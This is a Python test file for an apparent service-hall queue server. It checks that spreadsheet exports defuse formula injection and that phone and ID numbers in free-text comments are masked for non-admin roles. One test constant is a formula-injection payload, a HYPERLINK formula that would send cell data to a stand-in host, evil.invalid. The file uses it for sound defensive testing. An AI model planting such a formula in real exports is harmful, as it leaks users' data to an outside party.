"""Exports that cannot run formulas, and personal numbers typed into free text masked on the way out.

A spreadsheet reads a cell starting with = + - @ (or a tab or CR before one) as a formula; the
exports write such text with a leading apostrophe. ID-card and phone numbers that citizens or staff
type into comments and notes are masked for every role without the reveal right (only an admin).
"""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from queue_server.domain.cells import inert
from queue_server.domain.personal import mask_free_text
from tests.server.conftest import Hall
from tests.server.test_evaluations_api import concluded, evaluation_of, rate
from tests.server.test_reports_api import morning  # noqa: F401  (the fixture)

FORMULA = '=HYPERLINK("http://evil.invalid/?"&A1,"详情")'
PHONE, ID_NUMBER = "13812345678", "11010519491231002X"


def csv_records(response: Any, titles: int = 0) -> list[dict[str, str]]:
    """The CSV's records, after ``titles`` lines of column titles above the field names."""
    assert response.status_code == 200, response.text
    lines = io.StringIO(response.content.decode("utf-8-sig"))
    for _ in range(titles):
        next(lines)
    return list(csv.DictReader(lines))


@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"])
def test_text_that_starts_like_a_formula_becomes_inert(text: str) -> None:
    assert inert(text) == "'" + text
    assert inert("满意") == "满意" and inert(-5) == -5 and inert(None) is None


def test_numbers_in_free_text_are_masked() -> None:
    said = f"请回电 {PHONE} 或 +86 138-1234-5678，身份证{ID_NUMBER}。票号 A001，2026-03-02"
    expected = "请回电 138****5678 或 138****5678，身份证110105********002X。票号 A001，2026-03-02"
    assert mask_free_text(said) == expected
    assert mask_free_text("订单 1234567890123456789") == "订单 1234567890123456789"  # 19 digits: no ID


def test_a_formula_in_a_rating_comment_is_exported_inert(hall: Hall) -> None:
    hall.open_all()
    evaluation = evaluation_of(hall, concluded(hall))
    rated = rate(hall, evaluation["id"], level="dissatisfied", reasons=["slow"], comment=FORMULA)
    assert rated.status_code == 201, rated.text
    response = hall.client.get("/api/v1/evaluations/export?format=csv", headers=hall.as_("manager"))
    (record,) = csv_records(response)
    assert record["comment"] == "'" + FORMULA


def test_a_clerks_name_like_a_formula_is_inert_in_both_report_files(morning: Hall) -> None:  # noqa: F811
    renamed = morning.client.patch("/api/v1/staff/C1", json={"name": "=1+1"}, headers=morning.as_("admin"))
    assert renamed.status_code == 200, renamed.text
    params = {"date_from": "2026-03-02", "date_to": "2026-03-02", "by": "clerk"}
    headers = morning.as_("manager")
    url = "/api/v1/reports/figures"
    response = morning.client.get(url, params={**params, "format": "csv"}, headers=headers)
    (row,) = csv_records(response, titles=2)  # the report's zh and en title lines, as in the XLSX
    assert row["label"] == "'=1+1"
    response = morning.client.get(url, params={**params, "format": "xlsx"}, headers=headers)
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    header = [cell.value for cell in sheet[3]]
    label = sheet.cell(row=4, column=header.index("label") + 1)
    assert label.value == "'=1+1" and label.data_type == "s"


def test_a_phone_number_in_a_comment_is_masked_for_the_manager_and_shown_to_the_admin(hall: Hall) -> None:
    hall.open_all()
    evaluation = evaluation_of(hall, concluded(hall))
    comment = f"太慢了，请打 {PHONE} 回访，身份证 {ID_NUMBER}"
    rated = rate(hall, evaluation["id"], level="dissatisfied", reasons=["slow"], comment=comment)
    assert rated.status_code == 201, rated.text
    masked = "太慢了，请打 138****5678 回访，身份证 110105********002X"
    for who, expected in (("manager", masked), ("admin", comment)):
        (listed,) = hall.client.get("/api/v1/evaluations", headers=hall.as_(who)).json()
        one = hall.client.get(f"/api/v1/evaluations/{evaluation['id']}", headers=hall.as_(who)).json()
        (exported,) = csv_records(hall.client.get("/api/v1/evaluations/export", headers=hall.as_(who)))
        data = hall.client.get("/api/v1/evaluations/export?format=json", headers=hall.as_(who)).json()
        assert listed["comment"] == one["comment"] == exported["comment"] == expected, who
        assert data["records"][0]["comment"] == expected, who


def test_numbers_in_complaints_praise_and_follow_up_notes_are_masked_for_the_manager(hall: Hall) -> None:
    hall.open_all()
    manager = hall.as_("manager")
    body = {"category": "attitude", "summary": f"市民 {PHONE} 反映态度差"}
    complaint = hall.client.post("/api/v1/complaints", json=body, headers=manager)
    assert complaint.status_code == 201, complaint.text
    assert complaint.json()["summary"] == "市民 138****5678 反映态度差"
    (listed,) = hall.client.get("/api/v1/complaints", headers=manager).json()
    assert listed["summary"] == "市民 138****5678 反映态度差"
    admin_view = hall.client.get(f"/api/v1/complaints/{listed['id']}", headers=hall.as_("admin")).json()
    assert admin_view["summary"] == body["summary"]
    praise = {"kind": "letter", "window": "1", "day": "2026-03-02", "note": f"来信人 {ID_NUMBER}"}
    assert hall.client.post("/api/v1/praise", json=praise, headers=manager).json()["note"] == (
        "来信人 110105********002X"
    )
    evaluation = evaluation_of(hall, concluded(hall))
    assert rate(hall, evaluation["id"], level="dissatisfied", reasons=["slow"]).status_code == 201
    (follow_up,) = hall.client.get("/api/v1/follow-ups", headers=manager).json()
    step = {"action": "note", "note": f"已联系 {PHONE}"}
    noted = hall.client.post(f"/api/v1/follow-ups/{follow_up['id']}", json=step, headers=manager)
    assert noted.status_code == 200, noted.text
    assert noted.json()["notes"][-1]["text"] == "已联系 138****5678"
    (again,) = hall.client.get("/api/v1/follow-ups", headers=hall.as_("admin")).json()
    assert again["notes"][-1]["text"] == f"已联系 {PHONE}"
